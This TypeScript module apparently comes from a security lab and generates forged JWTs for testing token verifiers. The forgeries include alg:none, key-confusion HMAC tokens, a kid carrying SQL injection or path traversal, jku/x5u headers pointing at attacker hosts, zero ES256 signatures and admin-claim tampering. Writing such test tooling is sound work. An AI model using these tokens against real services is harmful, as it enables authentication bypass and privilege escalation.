import type { BrokenToken } from '../protocol/tokens.ts'
import { createPublicKey } from 'node:crypto'
import { LabKeys, type LabAlgorithm } from './lab-keys.ts'
import { encodedPart, signatureOf } from '../facts/jws.ts'
import { hmacToken, signToken, type TokenParts } from './sign.ts'

export interface BrokenSource {
  /** A token that would be right. */
  parts: TokenParts
  algorithm: LabAlgorithm
  keys: LabKeys
  /** Public keys of the issuer as its key set has them, for confusing them with shared secrets. */
  issuerKeys: readonly Readonly<Record<string, unknown>>[]
  /** Milliseconds since the epoch. */
  now: number
}

type Make = (source: BrokenSource, right: string) => string | undefined

interface Kind {
  id: string
  title: string
  looksFor: string
  make: Make
}

const none =
  (spelling: string): Make =>
  ({ parts }) =>
    `${encodedPart({ ...parts.header, alg: spelling, typ: 'JWT' })}.${encodedPart(parts.claims)}.`

const withClaims =
  (change: (claims: Readonly<Record<string, unknown>>, seconds: number) => Record<string, unknown>): Make =>
  ({ parts, algorithm, keys, now }) =>
    signToken({ ...parts, claims: change(parts.claims, Math.floor(now / 1000)) }, algorithm, keys)

const withHeader =
  (header: Record<string, unknown>): Make =>
  ({ parts, algorithm, keys }) =>
    signToken({ ...parts, header: { ...parts.header, ...header } }, algorithm, keys)

/** Signed by somebody else. `header` may show the way to the wrong key. */
const forged =
  (header: (attacker: LabKeys, algorithm: LabAlgorithm) => Record<string, unknown>): Make =>
  ({ parts, algorithm, keys }) => {
    const attacker = LabKeys.fresh()
    const kid = keys.kid(algorithm)
    return signToken(
      { ...parts, header: { ...parts.header, kid, ...header(attacker, algorithm) } },
      algorithm,
      attacker,
    )
  }

const jwkOf = (keys: LabKeys, algorithm: LabAlgorithm) => keys.jwks().find(({ kid }) => kid === keys.kid(algorithm))!

/** The classic broken tokens, in the order of a table. */
const kinds: readonly Kind[] = [
  ...['none', 'None', 'NONE', 'nOnE'].map((spelling) => ({
    id: `alg-${spelling}`,
    title: `alg: ${spelling}`,
    looksFor: 'Takes an unsigned token (RFC 8725 §3.1; CVE-2015-9235).',
    make: none(spelling),
  })),
  {
    id: 'no-signature',
    title: 'signature stripped',
    looksFor: 'Reads the claims without verifying (API2:2023).',
    make: (_, right) => `${right.slice(0, right.lastIndexOf('.'))}.`,
  },
  {
    id: 'two-parts',
    title: 'two parts only',
    looksFor: 'Treats a missing third part as nothing to verify.',
    make: (_, right) => right.slice(0, right.lastIndexOf('.')),
  },
  {
    id: 'bit-flipped',
    title: 'one bit of the signature flipped',
    looksFor: 'Does not compare the whole signature.',
    make: (_, right) => {
      const at = right.lastIndexOf('.') + 1
      const bytes = Buffer.from(right.slice(at), 'base64url')
      bytes[0]! ^= 1
      return right.slice(0, at) + bytes.toString('base64url')
    },
  },
  {
    id: 'claims-changed',
    title: 'claims changed after signing',
    looksFor: 'Verifies something else than it reads.',
    make: ({ parts }, right) => {
      const [header, , signed] = right.split('.')
      const claims = { ...parts.claims, sub: 'admin', roles: ['admin'], scope: 'admin' }
      return `${header}.${encodedPart(claims)}.${signed}`
    },
  },
  {
    id: 'confusion-pem',
    title: 'HS256 keyed with the issuer’s public key (PEM)',
    looksFor: 'Uses a public key as a shared secret (RFC 8725 §2.1; CVE-2016-5431).',
    make: ({ parts, issuerKeys }) => {
      const jwk = issuerKeys.find(({ kty }) => kty === 'RSA' || kty === 'EC')
      if (!jwk) return undefined
      const pem = createPublicKey({ key: jwk as never, format: 'jwk' }).export({
        type: 'spki',
        format: 'pem',
      }) as string
      const header = { ...parts.header, alg: 'HS256', typ: 'JWT', ...(jwk['kid'] ? { kid: jwk['kid'] } : {}) }
      return hmacToken({ ...parts, header }, Buffer.from(pem))
    },
  },
  {
    id: 'confusion-modulus',
    title: 'HS256 keyed with the issuer’s modulus',
    looksFor: 'Uses a public key as a shared secret (RFC 8725 §2.1).',
    make: ({ parts, issuerKeys }) => {
      const jwk = issuerKeys.find(({ kty }) => kty === 'RSA')
      if (!jwk) return undefined
      const header = { ...parts.header, alg: 'HS256', typ: 'JWT', ...(jwk['kid'] ? { kid: jwk['kid'] } : {}) }
      return hmacToken({ ...parts, header }, Buffer.from(jwk['n'] as string, 'base64url'))
    },
  },
  {
    id: 'empty-secret',
    title: 'HS256 with an empty secret, kid ../../dev/null',
    looksFor: 'Reads the key from a path that the token names.',
    make: ({ parts }) =>
      hmacToken({ ...parts, header: { alg: 'HS256', typ: 'JWT', kid: '../../../../../../dev/null' } }, Buffer.alloc(0)),
  },
  {
    id: 'kid-injection',
    title: 'kid with SQL in it',
    looksFor: 'Looks the key up with the token’s own words.',
    make: ({ parts }) =>
      hmacToken(
        { ...parts, header: { alg: 'HS256', typ: 'JWT', kid: "x' UNION SELECT 'secret';--" } },
        Buffer.from('secret'),
      ),
  },
  {
    id: 'wrong-kid',
    title: 'kid of no key',
    looksFor: 'Tries other keys when the named one is not there.',
    make: withHeader({ kid: 'no-such-key' }),
  },
  {
    id: 'other-key',
    title: 'signed by another key under the right kid',
    looksFor: 'Does not verify with the key that kid names.',
    make: forged(() => ({})),
  },
  {
    id: 'jwk',
    title: 'brings its own key (jwk)',
    looksFor: 'Trusts a key that the token brings (RFC 8725 §3.10; CVE-2018-0114).',
    make: forged((attacker, algorithm) => ({ jwk: jwkOf(attacker, algorithm), kid: undefined })),
  },
  {
    id: 'jku',
    title: 'names its own key set (jku)',
    looksFor: 'Fetches keys from where the token says (RFC 8725 §3.10).',
    make: forged(() => ({ jku: 'https://attacker.invalid/jwks.json' })),
  },
  {
    id: 'x5u',
    title: 'names its own certificate (x5u)',
    looksFor: 'Fetches a certificate from where the token says.',
    make: forged(() => ({ x5u: 'https://attacker.invalid/cert.pem' })),
  },
  {
    id: 'psychic',
    title: 'ES256 with a signature of zeros',
    looksFor: 'Accepts r = s = 0 (CVE-2022-21449).',
    make: ({ parts }) =>
      `${encodedPart({ ...parts.header, alg: 'ES256', typ: 'JWT' })}.${encodedPart(parts.claims)}.${Buffer.alloc(64).toString('base64url')}`,
  },
  {
    id: 'crit',
    title: 'a critical header nobody knows',
    looksFor: 'Ignores crit (RFC 7515 §4.1.11).',
    make: withHeader({ crit: ['http://example.invalid/policy'], 'http://example.invalid/policy': true }),
  },
  {
    id: 'b64',
    title: 'unencoded payload announced (b64: false)',
    looksFor: 'Verifies other bytes than it reads (RFC 7797).',
    make: withHeader({ b64: false }),
  },
  {
    id: 'expired',
    title: 'expired an hour ago',
    looksFor: 'Ignores exp.',
    make: withClaims((claims, now) => ({ ...claims, iat: now - 7200, exp: now - 3600 })),
  },
  {
    id: 'no-expiry',
    title: 'without exp',
    looksFor: 'Takes tokens that never end.',
    make: withClaims((claims) => ({ ...claims, exp: undefined })),
  },
  {
    id: 'text-expiry',
    title: 'exp as a text',
    looksFor: 'Compares a text with a time.',
    make: withClaims((claims) => ({ ...claims, exp: '9999999999' })),
  },
  {
    id: 'not-yet',
    title: 'valid in an hour (nbf)',
    looksFor: 'Ignores nbf.',
    make: withClaims((claims, now) => ({ ...claims, nbf: now + 3600 })),
  },
  {
    id: 'future',
    title: 'issued tomorrow (iat)',
    looksFor: 'Ignores an impossible iat.',
    make: withClaims((claims, now) => ({ ...claims, iat: now + 86_400, exp: now + 90_000 })),
  },
  {
    id: 'issuer',
    title: 'another issuer',
    looksFor: 'Does not judge iss.',
    make: withClaims((claims) => ({ ...claims, iss: 'https://attacker.invalid/' })),
  },
  {
    id: 'issuer-slash',
    title: 'issuer with a slash more',
    looksFor: 'Compares issuers loosely.',
    make: withClaims((claims) => ({ ...claims, iss: `${String(claims['iss'])}/` })),
  },
  {
    id: 'audience',
    title: 'made for another audience',
    looksFor: 'Does not judge aud (RFC 8725 §3.9).',
    make: withClaims((claims) => ({ ...claims, aud: 'https://another.invalid' })),
  },
  {
    id: 'type',
    title: 'a logout token (typ)',
    looksFor: 'Takes tokens made for something else (RFC 8725 §3.11).',
    make: withHeader({ typ: 'logout+jwt' }),
  },
  {
    id: 'duplicate-claim',
    title: 'sub written twice',
    looksFor: 'Reads the other one than the upstream does (RFC 8725 §3.2).',
    make: ({ parts, algorithm, keys }) => {
      const text = JSON.stringify(parts.claims)
      const claims = Buffer.from(`{"sub":"admin",${text.slice(1)}`).toString('base64url')
      const input = `${encodedPart({ alg: algorithm, kid: keys.kid(algorithm), typ: 'JWT' })}.${claims}`
      return `${input}.${signatureOf(input, algorithm, keys.privateKey(algorithm)).toString('base64url')}`
    },
  },
  {
    id: 'padded',
    title: 'padded base64',
    looksFor: 'Accepts more than one spelling of a token, so that a deny list misses it (RFC 7515 §2).',
    make: (_, right) => `${right}==`,
  },
  {
    id: 'trailing',
    title: 'a fourth part behind it',
    looksFor: 'Ignores what follows the signature.',
    make: (_, right) => `${right}.e30`,
  },
]

/** The broken tokens that can be made of a right one. Those that need a key of the issuer are left out where there is none. */
export function brokenTokens(source: BrokenSource): BrokenToken[] {
  const right = signToken(source.parts, source.algorithm, source.keys)
  return kinds.flatMap(({ id, title, looksFor, make }) => {
    const token = make(source, right)
    return token === undefined ? [] : [{ id, title, looksFor, token }]
  })
}
